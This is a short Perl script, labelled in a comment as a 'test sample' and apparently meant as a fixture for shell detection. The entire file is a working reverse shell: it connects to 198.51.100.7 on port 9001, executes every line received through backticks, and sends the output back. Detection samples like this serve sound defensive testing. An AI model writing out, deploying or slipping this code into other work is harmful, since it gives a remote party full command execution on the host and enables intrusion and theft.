#!/usr/bin/perl
# test sample: a reverse shell reading lines from the socket and running them through a sub of its own
use IO::Socket::INET;

sub do_it {
    my $c = shift;
    return `$c 2>&1`;
}

my $s = IO::Socket::INET->new(PeerAddr => "198.51.100.7", PeerPort => 9001, Proto => "tcp") or exit;
print $s "ready\n";
while (my $line = <$s>) {
    chomp $line;
    print $s &do_it($line);
}
